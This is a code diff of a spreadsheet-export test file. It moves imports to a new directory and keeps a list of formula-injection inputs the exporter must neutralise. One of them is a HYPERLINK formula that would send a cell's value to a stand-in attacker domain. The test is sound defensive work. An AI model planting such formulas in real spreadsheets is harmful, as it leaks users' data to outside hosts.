@@ -1,5 +1,5 @@
 /**
- * The spreadsheets of /data/ (src/lib/xlsx.ts): opened with a real parser
+ * The spreadsheets of /data/ (src/lib/formats/xlsx.ts): opened with a real parser
  * (ExcelJS's reader), no cell is a formula, however its text begins (`=`, `+`,
  * `-`, `@`, a tab, a carriage return: what a spreadsheet evaluates in a CSV);
  * text cells are strings with the CSV's exact value and the text format;
@@ -8,9 +8,9 @@
  */
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
-import { columns, table } from '../../src/lib/data-tables.ts';
-import { toCsv, type Cell } from '../../src/lib/csv.ts';
-import { tableXlsx } from '../../src/lib/xlsx.ts';
+import { columns, table } from '../../src/lib/formats/table-schema.ts';
+import { toCsv, type Cell } from '../../src/lib/formats/csv.ts';
+import { tableXlsx } from '../../src/lib/formats/xlsx.ts';
 
 const dangerous = ['=HYPERLINK("https://evil.example/?"&A2,"click")', '-2+3 is the sum', '+1 202 555', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\r\n=2', ' =1+1', '-'];
 
